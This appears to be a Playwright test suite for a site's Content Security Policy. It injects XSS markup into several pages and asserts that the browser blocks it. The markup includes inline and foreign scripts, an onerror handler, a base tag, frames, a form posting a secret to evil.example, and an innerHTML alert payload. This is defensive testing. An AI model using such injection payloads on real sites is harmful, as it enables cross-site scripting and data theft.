import { expect, type Page, test } from '@playwright/test'
import { collectPolicyViolations } from './policy-violations.ts'

const EVIL = 'https://evil.example'

/** The policies of these pages differ by their inline scripts and styles. */
const ROUTES = ['/', '/contact/', '/careers/data-scientist/', '/nothing-here/']

const INJECTED = `
  <script>window.owned = 'inline script'</script>
  <img id="handler" src="/nothing.png" onerror="window.owned = 'handler'">
  <script src="${EVIL}/foreign.js"></script>
  <iframe src="${EVIL}/frame.html"></iframe>
  <link rel="stylesheet" href="${EVIL}/foreign.css">
  <object data="${EVIL}/object"></object>
  <base href="${EVIL}/">
  <form id="stolen" action="${EVIL}/form" method="post"><input name="secret" value="1"></form>`

/** Collects the requests that reach the other site. */
async function collectEvilRequests(page: Page): Promise<string[]> {
  const reached: string[] = []
  await page.route(`${EVIL}/**`, async (route) => {
    reached.push(route.request().url())
    await route.fulfill({ status: 200, contentType: 'text/javascript', body: "window.owned = 'foreign script'" })
  })
  return reached
}

const owned = (page: Page) => page.evaluate(() => Reflect.get(window, 'owned'))

for (const route of ROUTES) {
  test(`${route}: injected scripts, handlers, frames and form targets are blocked`, async ({ page }) => {
    const found = await collectPolicyViolations(page)
    const reached = await collectEvilRequests(page)
    await page.route(`**${route}`, async (request) => {
      const answer = await request.fetch()
      const body = (await answer.text()).replace('</body>', `${INJECTED}</body>`)
      await request.fulfill({ response: answer, body })
    })
    await page.goto(route)
    await expect(page.locator('#stolen')).toBeAttached()
    const blocked = (pattern: RegExp) => expect.poll(() => found.filter((text) => pattern.test(text))).not.toEqual([])
    await blocked(/^script-src-elem inline/)
    await blocked(/^script-src-attr inline/)
    await blocked(/^script-src-elem https:\/\/evil\.example\/foreign\.js/)
    await blocked(/^frame-src https:\/\/evil\.example/)
    await blocked(/^style-src-elem https:\/\/evil\.example/)
    await blocked(/^base-uri https:\/\/evil\.example/)

    await page.locator('#stolen').evaluate((form) => form instanceof HTMLFormElement && form.submit())
    await blocked(/^form-action https:\/\/evil\.example\/form/)

    const refused = await page.evaluate((evil) => {
      const attempts = [
        () => {
          document.body.innerHTML = '<img src=x onerror=alert(1)>'
        },
        () => {
          document.createElement('script').src = `${evil}/foreign.js`
        },
        () => {
          document.createElement('script').textContent = 'window.owned = 1'
        },
        () => window.trustedTypes?.createPolicy('mine', {}),
      ]
      return attempts.map((attempt) => {
        try {
          attempt()
          return 'passed'
        } catch (error) {
          return error instanceof TypeError ? 'refused' : String(error)
        }
      })
    }, EVIL)
    expect(refused).toEqual(Array(4).fill('refused'))
    await expect(page.evaluate((evil) => fetch(`${evil}/told`), EVIL)).rejects.toThrow('Failed to fetch')

    expect(await owned(page)).toBeUndefined()
    expect(reached).toEqual([])
  })
}

test('other sites cannot embed a page in a frame', async ({ page, baseURL }) => {
  await page.route(`${EVIL}/**`, (route) =>
    route.fulfill({ status: 200, contentType: 'text/html', body: `<iframe src="${baseURL}/contact/"></iframe>` }),
  )
  await page.goto(`${EVIL}/`)
  await expect.poll(() => page.frames().map((frame) => frame.url())).toContain('chrome-error://chromewebdata/')
})
